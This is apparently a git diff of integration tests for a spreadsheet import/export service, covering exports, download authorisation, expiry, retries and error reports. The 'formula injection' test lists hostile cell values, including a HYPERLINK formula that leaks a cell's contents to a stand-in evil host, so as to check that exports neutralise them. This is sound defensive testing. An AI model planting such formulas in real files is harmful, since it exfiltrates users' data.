@@ -3,6 +3,7 @@ import { Readable } from "node:stream";
 import { parse } from "csv-parse/sync";
 import ExcelJS from "exceljs";
 import { print } from "graphql";
+import { randomUUID } from "node:crypto";
 import pg from "pg";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { signDownload } from "../src/auth/downloadTokens.js";
@@ -16,6 +17,7 @@ import {
   WatchExport,
 } from "./exportOperations.js";
 import { cellsOf, download, isFinalExport, readXlsx, waitForExport } from "./helpers/exports.js";
+import { jobHistory, recordJobHistory, retryNow, type JobVersion } from "./helpers/jobHistory.js";
 import { runTaskNow } from "./helpers/jobs.js";
 import { isFinal, orderColumns, uploadFile, waitForImport, xlsxFile } from "./helpers/imports.js";
 import { startTestApp, type TestApp } from "./helpers/testApp.js";
@@ -25,9 +27,6 @@ const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.s
 
 let t: TestApp;
 let sql: pg.Pool;
-let token: string;
-let other: string;
-let templateId: string;
 
 /** Every column type, so a round trip shows each keeps its type. */
 const everyColumn = [
@@ -80,9 +79,7 @@ const expectedData = [
 beforeAll(async () => {
   t = await startTestApp({ env: { MAX_ATTEMPTS: "2" } });
   sql = new pg.Pool({ connectionString: t.database.url });
-  token = (await t.request(SignUp, { email: "exporter@example.com", password: "long enough" })).data!.signUp.token;
-  other = (await t.request(SignUp, { email: "someone@example.com", password: "long enough" })).data!.signUp.token;
-  templateId = await createTemplate(token, "Everything", everyColumn);
+  await recordJobHistory(t.database.url);
 });
 
 afterAll(async () => {
@@ -92,6 +89,13 @@ afterAll(async () => {
 
 const codes = (result: { errors?: ReadonlyArray<{ extensions?: Record<string, unknown> }> }) =>
   result.errors?.map((e) => e.extensions?.code);
+
+/** A new user's token: each describe block makes its own. */
+async function newUser(): Promise<string> {
+  const signUp = await t.request(SignUp, { email: `${randomUUID()}@example.com`, password: "long enough" });
+  expect(signUp.errors).toBeUndefined();
+  return signUp.data!.signUp.token;
+}
 
 async function createTemplate(owner: string, name: string, columns: typeof everyColumn | typeof orderColumns) {
   const created = await t.request(CreateTemplate, { input: { name, columns } }, owner);
@@ -112,11 +116,34 @@ async function recordsOf(importId: string) {
   return rows.map((r) => r.data as Record<string, unknown>);
 }
 
-/** requestExport, then waits for the export to end and returns it as the API shows it. */
-async function exportAndWait(variables: { templateId: string; format?: "XLSX" | "CSV"; importId?: string }) {
+/** A new user with the "Everything" template and a COMPLETED import of the fixture rows. */
+interface Owner {
+  token: string;
+  templateId: string;
+  fixtureImport: string;
+}
+
+async function newOwner(): Promise<Owner> {
+  const token = await newUser();
+  const templateId = await createTemplate(token, "Everything", everyColumn);
+  const fixtureImport = await importFile(token, templateId, await xlsxFile(fixtureRows, headers), "fixture.xlsx");
+  expect(await recordsOf(fixtureImport)).toEqual(expectedData);
+  return { token, templateId, fixtureImport };
+}
+
+type ExportInput = { templateId: string; format?: "XLSX" | "CSV"; importId?: string };
+
+/** requestExport, which answers with the export as it wrote it: PENDING, not yet attempted, no file. */
+async function requestExport(token: string, variables: ExportInput) {
   const requested = await t.request(RequestExport, variables, token);
   expect(requested.errors).toBeUndefined();
-  const id = requested.data!.requestExport.id;
+  expect(requested.data!.requestExport).toMatchObject({ status: "PENDING", attempts: 0, downloadUrl: null });
+  return requested.data!.requestExport;
+}
+
+/** requestExport, then waits for the export to end and returns it as the API shows it. */
+async function exportAndWait(token: string, variables: ExportInput) {
+  const { id } = await requestExport(token, variables);
   await waitForExport(t.database.url, id, isFinalExport);
   const result = await t.request(GetExport, { id }, token);
   expect(result.errors).toBeUndefined();
@@ -140,40 +167,37 @@ async function seedImport(template: string, records: Array<Record<string, unknow
   return importId;
 }
 
-let fixtureImport: string;
-
 describe("export round trip", () => {
+  let o: Owner;
   beforeAll(async () => {
-    fixtureImport = await importFile(token, templateId, await xlsxFile(fixtureRows, headers), "fixture.xlsx");
-    expect(await recordsOf(fixtureImport)).toEqual(expectedData);
+    o = await newOwner();
   });
 
-  it("requestExport returns at once, PENDING, with a queued job and no download yet", async () => {
-    // an API process alone: no worker can pick the job up, so the answer shows what the mutation did
-    const api = await startTestApp({ role: "api" });
-    try {
-      const owner = (await api.request(SignUp, { email: "queued@example.com", password: "long enough" })).data!.signUp
-        .token;
-      const template = (await api.request(CreateTemplate, { input: { name: "O", columns: orderColumns } }, owner)).data!
-        .createImportTemplate.id;
-      const requested = await api.request(RequestExport, { templateId: template }, owner);
-      expect(requested.errors).toBeUndefined();
-      expect(requested.data!.requestExport).toMatchObject({
-        status: "PENDING",
-        format: "XLSX",
-        downloadUrl: null,
-        rowCount: null,
-        fileName: null,
-        template: { id: template },
-      });
-      expect(requested.data!.requestExport.backgroundJobId).not.toBeNull();
-    } finally {
-      await api.stop();
-    }
+  it("requestExport answers PENDING with a queued job and no file, then commits PROCESSING and COMPLETED", async () => {
+    const requested = await requestExport(o.token, { templateId: o.templateId, importId: o.fixtureImport });
+    // the row requestExport wrote, whatever the worker in this process has done since
+    expect(requested).toMatchObject({
+      format: "XLSX",
+      rowCount: null,
+      fileName: null,
+      processingStartedAt: null,
+      template: { id: o.templateId },
+    });
+    expect(requested.backgroundJobId).not.toBeNull();
+    const history = await jobHistory(t.database.url, requested.id);
+    expect(history.map((v) => [v.status, v.attempts, v.row_count])).toEqual([
+      ["PENDING", 0, null],
+      ["PROCESSING", 1, null],
+      ["COMPLETED", 1, 3],
+    ]);
   });
 
   it("writes an xlsx that exceljs reads back with the same values and types", async () => {
-    const exported = await exportAndWait({ templateId, format: "XLSX", importId: fixtureImport });
+    const exported = await exportAndWait(o.token, {
+      templateId: o.templateId,
+      format: "XLSX",
+      importId: o.fixtureImport,
+    });
     expect(exported).toMatchObject({
       status: "COMPLETED",
       rowCount: 3,
@@ -187,7 +211,7 @@ describe("export round trip", () => {
     expect(Date.parse(exported.expiresAt!) - completed).toBeGreaterThan(24 * 3_600_000 - 2_000);
     expect(Date.parse(exported.expiresAt!) - completed).toBeLessThan(24 * 3_600_000 + 2_000);
 
-    const { response, status, body } = await download(t, `/exports/${exported.id}/download`, token);
+    const { response, status, body } = await download(t, `/exports/${exported.id}/download`, o.token);
     expect(status).toBe(200);
     expect(response.headers.get("content-type")).toBe(XLSX_TYPE);
     expect(response.headers.get("content-disposition")).toBe(
@@ -236,12 +260,16 @@ describe("export round trip", () => {
     for (const row of rows) for (const cell of cellsOf(row, 7)) expect(cell.formula).toBeUndefined();
 
     // and importing the export gives the very same records
-    const again = await importFile(token, templateId, body, exported.fileName!);
+    const again = await importFile(o.token, o.templateId, body, exported.fileName!);
     expect(await recordsOf(again)).toEqual(expectedData);
   });
 
   it("writes a csv that exceljs reads back with the same values and types", async () => {
-    const exported = await exportAndWait({ templateId, format: "CSV", importId: fixtureImport });
+    const exported = await exportAndWait(o.token, {
+      templateId: o.templateId,
+      format: "CSV",
+      importId: o.fixtureImport,
+    });
     expect(exported.errorMessage).toBeNull();
     expect(exported).toMatchObject({ status: "COMPLETED", format: "CSV", rowCount: 3 });
     expect(exported.fileName).toMatch(/^Everything \d{4}-\d{2}-\d{2}\.csv$/);
@@ -276,14 +304,14 @@ describe("export round trip", () => {
     ]);
     expect(values[2]).toEqual(["Gadget", 20, -0.5, false, null, null, null]);
 
-    const again = await importFile(token, templateId, body, "again.csv");
+    const again = await importFile(o.token, o.templateId, body, "again.csv");
     expect(await recordsOf(again)).toEqual(expectedData);
   });
 
   it("exports every completed import of the template without importId, in upload order", async () => {
-    const template = await createTemplate(token, "Orders", orderColumns);
+    const template = await createTemplate(o.token, "Orders", orderColumns);
     const first = await importFile(
-      token,
+      o.token,
       template,
       await xlsxFile([
         ["A", 1, 1],
@@ -291,10 +319,10 @@ describe("export round trip", () => {
       ]),
       "1.xlsx",
     );
-    const failed = await importFile(token, template, await xlsxFile([["", 1, "x"]]), "bad.xlsx");
-    const second = await importFile(token, template, await xlsxFile([["C", 3, 3]]), "2.xlsx");
+    const failed = await importFile(o.token, template, await xlsxFile([["", 1, "x"]]), "bad.xlsx");
+    const second = await importFile(o.token, template, await xlsxFile([["C", 3, 3]]), "2.xlsx");
     expect((await sql.query("select status from imports where id = $1", [failed])).rows[0].status).toBe("FAILED");
-    const exported = await exportAndWait({ templateId: template });
+    const exported = await exportAndWait(o.token, { templateId: template });
     expect(exported.rowCount).toBe(3);
     const rows = await readXlsx((await download(t, exported.downloadUrl!)).body);
     expect(rows.slice(1).map((row) => [row.getCell(1).value, row.getCell(2).value])).toEqual([
@@ -306,9 +334,9 @@ describe("export round trip", () => {
   });
 
   it("completes an export with no records: a file with just the header row", async () => {
-    const template = await createTemplate(token, "Empty", orderColumns);
+    const template = await createTemplate(o.token, "Empty", orderColumns);
     for (const format of ["XLSX", "CSV"] as const) {
-      const exported = await exportAndWait({ templateId: template, format });
+      const exported = await exportAndWait(o.token, { templateId: template, format });
       expect(exported).toMatchObject({ status: "COMPLETED", rowCount: 0 });
       const { body } = await download(t, exported.downloadUrl!);
       if (format === "XLSX") {
@@ -320,8 +348,11 @@ describe("export round trip", () => {
     }
   });
 
-  it("streams many rows through the cursor and into stored chunks", async () => {
-    const template = await createTemplate(token, "Many", [
+  // what this checks: 25,000 rows (over 1 MiB of csv) come through the cursor whole and in order,
+  // and are stored in more than one chunk. That memory stays flat while they do rests on
+  // backpressure, which sheetWriter.test.ts asserts with a bound on what the writer runs ahead.
+  it("exports 25,000 rows, whole and in order, into more than one stored chunk", async () => {
+    const template = await createTemplate(o.token, "Many", [
       { key: "name", header: "Name", type: "STRING", required: true },
       { key: "n", header: "N", type: "INTEGER" },
     ]);
@@ -337,7 +368,7 @@ describe("export round trip", () => {
        from generate_series(1, $2::int) n`,
       [rows[0].id, count],
     );
-    const csv = await exportAndWait({ templateId: template, format: "CSV" });
+    const csv = await exportAndWait(o.token, { templateId: template, format: "CSV" });
     expect(csv.rowCount).toBe(count);
     const chunks = await sql.query(
       "select count(*)::int as n from stored_file_chunks where file_id = (select file_id from exports where id = $1)",
@@ -348,7 +379,7 @@ describe("export round trip", () => {
     expect(lines).toHaveLength(count + 2);
     expect(lines[count]).toBe(`"Row number ${count}${"x".repeat(40)}",${count}`);
 
-    const xlsx = await exportAndWait({ templateId: template, format: "XLSX" });
+    const xlsx = await exportAndWait(o.token, { templateId: template, format: "XLSX" });
     const sheet = await readXlsx((await download(t, xlsx.downloadUrl!)).body);
     expect(sheet).toHaveLength(count + 1);
     expect(sheet[count]!.getCell(2).value).toBe(count);
@@ -356,6 +387,11 @@ describe("export round trip", () => {
 });
 
 describe("formula injection", () => {
+  let o: Owner;
+  beforeAll(async () => {
+    o = await newOwner();
+  });
+
   const dangerous = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
     "@SUM(1)",
@@ -369,7 +405,7 @@ describe("formula injection", () => {
   let template: string;
 
   beforeAll(async () => {
-    template = await createTemplate(token, "Notes", [
+    template = await createTemplate(o.token, "Notes", [
       { key: "note", header: "Note", type: "STRING", required: true },
       { key: "amount", header: "Amount", type: "DECIMAL" },
     ]);
@@ -380,7 +416,7 @@ describe("formula injection", () => {
   });
 
   it("xlsx: every text is a string cell, never a formula", async () => {
-    const exported = await exportAndWait({ templateId: template, format: "XLSX" });
+    const exported = await exportAndWait(o.token, { templateId: template, format: "XLSX" });
     const { body } = await download(t, exported.downloadUrl!);
     const rows = (await readXlsx(body)).slice(1);
     // XML reads a carriage return in text as a line feed; what matters is that it stays text
@@ -396,7 +432,7 @@ describe("formula injection", () => {
   });
 
   it("csv: text that could start a formula is prefixed with ' and quoted; numbers stay numbers", async () => {
-    const exported = await exportAndWait({ templateId: template, format: "CSV" });
+    const exported = await exportAndWait(o.token, { templateId: template, format: "CSV" });
     const text = (await download(t, exported.downloadUrl!)).body.toString("utf8");
     const fields = parse(text, { bom: true, relax_column_count: false }) as string[][];
     expect(fields.slice(1)).toEqual(dangerous.map((note) => [/^[=+\-@\t\r]/.test(note) ? `'${note}` : note, "-1"]));
@@ -412,19 +448,23 @@ describe("formula injection", () => {
 });
 
 describe("download authorisation", () => {
+  let o: Owner;
+  let other: string;
   let exportId: string;
   let url: string;
   let bytes: Buffer;
 
   beforeAll(async () => {
-    const exported = await exportAndWait({ templateId, importId: fixtureImport });
+    o = await newOwner();
+    other = await newUser();
+    const exported = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
     exportId = exported.id;
     url = exported.downloadUrl!;
-    bytes = (await download(t, `/exports/${exportId}/download`, token)).body;
+    bytes = (await download(t, `/exports/${exportId}/download`, o.token)).body;
   });
 
   it("serves the owner with a bearer token, and anyone with the signed link", async () => {
-    expect((await download(t, `/exports/${exportId}/download`, token)).status).toBe(200);
+    expect((await download(t, `/exports/${exportId}/download`, o.token)).status).toBe(200);
     const signed = await download(t, url);
     expect(signed.status).toBe(200);
     expect(signed.body.equals(bytes)).toBe(true);
@@ -445,9 +485,7 @@ describe("download authorisation", () => {
   it("answers 401 without credentials, with a bad token, or with a link that is not for this file", async () => {
     const secret = (await sql.query("select secret from signing_secrets")).rows[0].secret as Buffer;
     const inAnHour = new Date(Date.now() + 3_600_000);
-    const otherExport = (
-      await sql.query("select id from exports where id <> $1 and status = 'COMPLETED' limit 1", [exportId])
-    ).rows[0].id as string;
+    const otherExport = (await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport })).id;
     const cases = [
       download(t, `/exports/${exportId}/download`),
       download(t, `/exports/${exportId}/download`, "not-a-session"),
@@ -475,19 +513,25 @@ describe("download authorisation", () => {
     const now = Date.now();
     const expiry = (link: string) => Number(/token=(\d+)\./.exec(link)![1]) * 1000;
     expect(expiry(url)).toBeLessThanOrEqual(now + 15 * 60_000);
-    await sql.query("update exports set expires_at = now() + interval '1 minute' where id = $1", [exportId]);
-    const soon = (await t.request(GetExport, { id: exportId }, token)).data!.export!;
+    // an export of this test's own, since its file is made to expire in a minute
+    const expiring = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
+    await sql.query("update exports set expires_at = now() + interval '1 minute' where id = $1", [expiring.id]);
+    const soon = (await t.request(GetExport, { id: expiring.id }, o.token)).data!.export!;
     expect(expiry(soon.downloadUrl!)).toBeLessThanOrEqual(Date.parse(soon.expiresAt!));
   });
 
   it("answers 410 Gone once the file expired, to the owner and to a signed link", async () => {
-    const exported = await exportAndWait({ templateId, importId: fixtureImport, format: "CSV" });
+    const exported = await exportAndWait(o.token, {
+      templateId: o.templateId,
+      importId: o.fixtureImport,
+      format: "CSV",
+    });
     await sql.query("update exports set expires_at = now() - interval '1 second' where id = $1", [exported.id]);
     expect((await download(t, exported.downloadUrl!)).status).toBe(410);
-    const gone = await download(t, `/exports/${exported.id}/download`, token);
+    const gone = await download(t, `/exports/${exported.id}/download`, o.token);
     expect(gone.status).toBe(410);
     expect(JSON.parse(gone.body.toString()).error.code).toBe("GONE");
-    expect((await t.request(GetExport, { id: exported.id }, token)).data!.export!.downloadUrl).toBeNull();
+    expect((await t.request(GetExport, { id: exported.id }, o.token)).data!.export!.downloadUrl).toBeNull();
     // someone else still gets 404, not 410: they must not learn it existed
     expect((await download(t, `/exports/${exported.id}/download`, other)).status).toBe(404);
   });
@@ -495,19 +539,26 @@ describe("download authorisation", () => {
   it("answers 409 while an export is not ready", async () => {
     const { rows } = await sql.query(
       `insert into exports (user_id, template_id) select user_id, id from import_templates where id = $1 returning id`,
-      [templateId],
+      [o.templateId],
     );
-    const pending = await download(t, `/exports/${rows[0].id}/download`, token);
+    const pending = await download(t, `/exports/${rows[0].id}/download`, o.token);
     expect(pending.status).toBe(409);
-    expect((await t.request(GetExport, { id: rows[0].id }, token)).data!.export!.downloadUrl).toBeNull();
+    expect((await t.request(GetExport, { id: rows[0].id }, o.token)).data!.export!.downloadUrl).toBeNull();
   });
 });
 
 describe("import error report", () => {
+  let o: Owner;
+  let other: string;
+  beforeAll(async () => {
+    o = await newOwner();
+    other = await newUser();
+  });
+
   it("has exactly the failed rows with their original values and an Errors column", async () => {
-    const template = await createTemplate(token, "Orders with errors", orderColumns);
+    const template = await createTemplate(o.token, "Orders with errors", orderColumns);
     const importId = await importFile(
-      token,
+      o.token,
       template,
       await xlsxFile([
         ["Widget", 3, 9.99, true, new Date(Date.UTC(2024, 0, 15)), "a@example.com"], // row 2: fine
@@ -517,7 +568,7 @@ describe("import error report", () => {
       ]),
       "orders.xlsx",
     );
-    const found = (await t.request(GetErrorReportUrl, { id: importId }, token)).data!.import!;
+    const found = (await t.request(GetErrorReportUrl, { id: importId }, o.token)).data!.import!;
     expect(found).toMatchObject({ status: "COMPLETED", rowsFailed: 2 });
     expect(found.errorReportUrl).toMatch(new RegExp(`^/imports/${importId}/errors\\.xlsx\\?token=\\d+\\.[\\w-]{43}$`));
 
@@ -552,15 +603,15 @@ describe("import error report", () => {
     expect(rows[1]![6]).toMatch(/^Name: .+\nUnit Price: .+\nActive: .+\nContact Email: .+$/);
 
     // the same for the owner's bearer token; 404 for anyone else, 401 for no one
-    const withBearer = await download(t, `/imports/${importId}/errors.xlsx`, token);
+    const withBearer = await download(t, `/imports/${importId}/errors.xlsx`, o.token);
     expect(withBearer.status).toBe(200);
     expect((await readXlsx(withBearer.body)).length).toBe(3);
     expect((await download(t, `/imports/${importId}/errors.xlsx`, other)).status).toBe(404);
     expect((await download(t, `/imports/${importId}/errors.xlsx`)).status).toBe(401);
     // the report imports again as it is (its Errors column is ignored): the same cells fail again
     // (the values are text now, so a message may quote a number)
-    const again = await importFile(token, template, report.body, "orders errors.xlsx");
-    const reimported = (await t.request(GetErrorReportUrl, { id: again }, token)).data!.import!;
+    const again = await importFile(o.token, template, report.body, "orders errors.xlsx");
+    const reimported = (await t.request(GetErrorReportUrl, { id: again }, o.token)).data!.import!;
     expect(reimported).toMatchObject({ status: "FAILED", rowsFailed: 2 });
     const againErrors = await sql.query(
       `select "column" from import_row_errors where import_id = $1 order by row_number, id`,
@@ -574,7 +625,7 @@ describe("import error report", () => {
   });
 
   it("lets go of its database connection when the client goes away mid-download", async () => {
-    const template = await createTemplate(token, "Big report", orderColumns);
+    const template = await createTemplate(o.token, "Big report", orderColumns);
     const { rows } = await sql.query(
       `insert into imports (user_id, template_id, status, phase, file_name, file_size, file_type, rows_failed)
        select user_id, id, 'COMPLETED', 'DONE', 'big.csv', 0, 'csv', 30000 from import_templates where id = $1
@@ -592,7 +643,7 @@ describe("import error report", () => {
     for (let i = 0; i < 25; i++) {
       const controller = new AbortController();
       const response = await fetch(new URL(`/imports/${importId}/errors.xlsx`, t.url), {
-        headers: { authorization: `Bearer ${token}` },
+        headers: { authorization: `Bearer ${o.token}` },
         signal: controller.signal,
       });
       expect(response.status).toBe(200);
@@ -601,66 +652,85 @@ describe("import error report", () => {
       controller.abort();
       await reader.closed.catch(() => undefined);
     }
-    const whole = await download(t, `/imports/${importId}/errors.xlsx`, token);
+    const whole = await download(t, `/imports/${importId}/errors.xlsx`, o.token);
     expect(whole.status).toBe(200);
     expect(await readXlsx(whole.body)).toHaveLength(30_001);
   });
 
   it("is null, and 404, when no row failed", async () => {
-    const found = (await t.request(GetErrorReportUrl, { id: fixtureImport }, token)).data!.import!;
+    const found = (await t.request(GetErrorReportUrl, { id: o.fixtureImport }, o.token)).data!.import!;
     expect(found).toMatchObject({ rowsFailed: 0, errorReportUrl: null });
-    expect((await download(t, `/imports/${fixtureImport}/errors.xlsx`, token)).status).toBe(404);
+    expect((await download(t, `/imports/${o.fixtureImport}/errors.xlsx`, o.token)).status).toBe(404);
   });
 });
 
 describe("what another user sees", () => {
+  let o: Owner;
+  beforeAll(async () => {
+    o = await newOwner();
+  });
+
   it("gets NOT_FOUND for our exports, templates and imports, as for a missing id", async () => {
-    const exported = await exportAndWait({ templateId, importId: fixtureImport });
+    const other = await newUser();
+    const exported = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
     const missing = "00000000-0000-4000-8000-000000000000";
     for (const id of [exported.id, missing, "nope"]) {
       expect(codes(await t.request(GetExport, { id }, other))).toEqual(["NOT_FOUND"]);
       expect(codes(await t.request(GetJob, { id }, other))).toEqual(["NOT_FOUND"]);
     }
-    expect(codes(await t.request(RequestExport, { templateId }, other))).toEqual(["NOT_FOUND"]);
+    expect(codes(await t.request(RequestExport, { templateId: o.templateId }, other))).toEqual(["NOT_FOUND"]);
     const theirTemplate = await createTemplate(other, "Theirs", everyColumn);
     expect(
-      codes(await t.request(RequestExport, { templateId: theirTemplate, importId: fixtureImport }, other)),
+      codes(await t.request(RequestExport, { templateId: theirTemplate, importId: o.fixtureImport }, other)),
     ).toEqual(["NOT_FOUND"]);
     expect((await t.request(ListExports, {}, other)).data!.exports.edges).toEqual([]);
   });
 });
 
 describe("requestExport input", () => {
+  let o: Owner;
+  beforeAll(async () => {
+    o = await newOwner();
+  });
+
   it("refuses an import that is not COMPLETED, or of another template, with BAD_USER_INPUT", async () => {
-    const template = await createTemplate(token, "Strict", orderColumns);
-    const failed = await importFile(token, template, await xlsxFile([["", 1, "x"]]), "bad.xlsx");
-    const refused = await t.request(RequestExport, { templateId: template, importId: failed }, token);
+    const template = await createTemplate(o.token, "Strict", orderColumns);
+    const failed = await importFile(o.token, template, await xlsxFile([["", 1, "x"]]), "bad.xlsx");
+    const refused = await t.request(RequestExport, { templateId: template, importId: failed }, o.token);
     expect(codes(refused)).toEqual(["BAD_USER_INPUT"]);
     expect(refused.errors![0]!.message).toBe("Only a COMPLETED import can be exported; this one is FAILED.");
-    const mismatched = await t.request(RequestExport, { templateId: template, importId: fixtureImport }, token);
+    const mismatched = await t.request(RequestExport, { templateId: template, importId: o.fixtureImport }, o.token);
     expect(codes(mismatched)).toEqual(["BAD_USER_INPUT"]);
   });
 
   it("shows exports through job(id) and exports(status)", async () => {
-    const exported = await exportAndWait({ templateId, importId: fixtureImport, format: "CSV" });
-    expect((await t.request(GetExportJob, { id: exported.id }, token)).data!.job).toEqual({
+    const exported = await exportAndWait(o.token, {
+      templateId: o.templateId,
+      importId: o.fixtureImport,
+      format: "CSV",
+    });
+    expect((await t.request(GetExportJob, { id: exported.id }, o.token)).data!.job).toEqual({
       __typename: "Export",
       id: exported.id,
       status: "COMPLETED",
       format: "CSV",
       rowCount: 3,
     });
-    const listed = (await t.request(ListExports, { first: 500, status: "COMPLETED" }, token)).data!.exports.edges;
+    const listed = (await t.request(ListExports, { first: 500, status: "COMPLETED" }, o.token)).data!.exports.edges;
     expect(listed[0]!.node.id).toBe(exported.id); // newest first
     expect(listed.every((e) => e.node.status === "COMPLETED")).toBe(true);
   });
 });
 
 describe("watching an export", () => {
+  let o: Owner;
+  beforeAll(async () => {
+    o = await newOwner();
+  });
+
   it("jobStatus(id) follows it over graphql-ws to COMPLETED, with its download link", async () => {
-    const client = t.wsClient({ authorization: `Bearer ${token}` });
-    const requested = await t.request(RequestExport, { templateId, importId: fixtureImport }, token);
-    const id = requested.data!.requestExport.id;
+    const client = t.wsClient({ authorization: `Bearer ${o.token}` });
+    const { id } = await requestExport(o.token, { templateId: o.templateId, importId: o.fixtureImport });
     const seen: Array<{ __typename: string; status: string; downloadUrl?: string | null }> = [];
     for await (const result of client.iterate({ query: print(WatchExport), variables: { id } })) {
       expect(result.errors).toBeUndefined();
@@ -673,28 +743,50 @@ describe("watching an export", () => {
 });
 
 describe("retries", () => {
-  it("retries a transient failure, PENDING with the attempt meanwhile, then completes", async () => {
+  let o: Owner;
+  beforeAll(async () => {
+    o = await newOwner();
+  });
+
+  it("retries a transient failure after a backoff, PENDING with the attempt meanwhile, then completes", async () => {
+    const firstAttemptFailed = (v: JobVersion) => v.status === "PENDING" && v.attempts === 1;
     await sql.query("alter table records rename to records_away");
-    let id: string;
+    let requested: Awaited<ReturnType<typeof requestExport>>;
     try {
-      const requested = await t.request(RequestExport, { templateId, importId: fixtureImport }, token);
-      id = requested.data!.requestExport.id;
-      const waiting = await waitForExport(t.database.url, id, (row) => row.attempts === 1 && row.status === "PENDING");
-      expect(waiting.error_message).toMatch(/^Attempt 1 of 2 failed \(.*records.*\); it will be retried\.$/);
-      expect(waiting.file_id).toBeNull();
+      requested = await requestExport(o.token, { templateId: o.templateId, importId: o.fixtureImport });
+      await jobHistory(t.database.url, requested.id, firstAttemptFailed);
     } finally {
       await sql.query("alter table records_away rename to records");
     }
-    const done = await waitForExport(t.database.url, id);
-    expect(done).toMatchObject({ status: "COMPLETED", attempts: 2, row_count: 3, error_message: null });
+    // the retry is due after graphile-worker's backoff (e seconds after a first attempt); run it now
+    const { backoffMs } = await retryNow(t.database.url, requested.backgroundJobId!);
+    expect(backoffMs).toBeGreaterThan(2_000);
+
+    const history = await jobHistory(t.database.url, requested.id);
+    expect(history.map((v) => [v.status, v.attempts])).toEqual([
+      ["PENDING", 0],
+      ["PROCESSING", 1],
+      ["PENDING", 1],
+      ["PROCESSING", 2],
+      ["COMPLETED", 2],
+    ]);
+    const waiting = history.find(firstAttemptFailed)!;
+    expect(waiting.error_message).toMatch(/^Attempt 1 of 2 failed \(.*records.*\); it will be retried\.$/);
+    expect(waiting.file_id).toBeNull();
+    expect(history.at(-1)).toMatchObject({ row_count: 3, error_message: null, background_job_id: null });
   });
 });
 
 describe("expired files", () => {
+  let o: Owner;
+  beforeAll(async () => {
+    o = await newOwner();
+  });
+
   it("are deleted by the cron task, which keeps the export", async () => {
     expect(crontab).toMatch(/^\*\/15 \* \* \* \* deleteExpiredExports/m);
-    const expired = await exportAndWait({ templateId, importId: fixtureImport });
-    const fresh = await exportAndWait({ templateId, importId: fixtureImport });
+    const expired = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
+    const fresh = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
     const fileOf = async (id: string) =>
       (await sql.query("select file_id from exports where id = $1", [id])).rows[0].file_id as string | null;
     const expiredFile = await fileOf(expired.id);
@@ -710,9 +802,9 @@ describe("expired files", () => {
       (await sql.query("select count(*)::int as n from stored_file_chunks where file_id = $1", [expiredFile])).rows[0]
         .n,
     ).toBe(0);
-    const after = (await t.request(GetExport, { id: expired.id }, token)).data!.export!;
+    const after = (await t.request(GetExport, { id: expired.id }, o.token)).data!.export!;
     expect(after).toMatchObject({ status: "COMPLETED", downloadUrl: null, rowCount: 3 });
-    expect((await download(t, `/exports/${expired.id}/download`, token)).status).toBe(410);
+    expect((await download(t, `/exports/${expired.id}/download`, o.token)).status).toBe(410);
     // a file still in date is untouched
     expect(await fileOf(fresh.id)).not.toBeNull();
     expect((await download(t, fresh.downloadUrl!)).status).toBe(200);
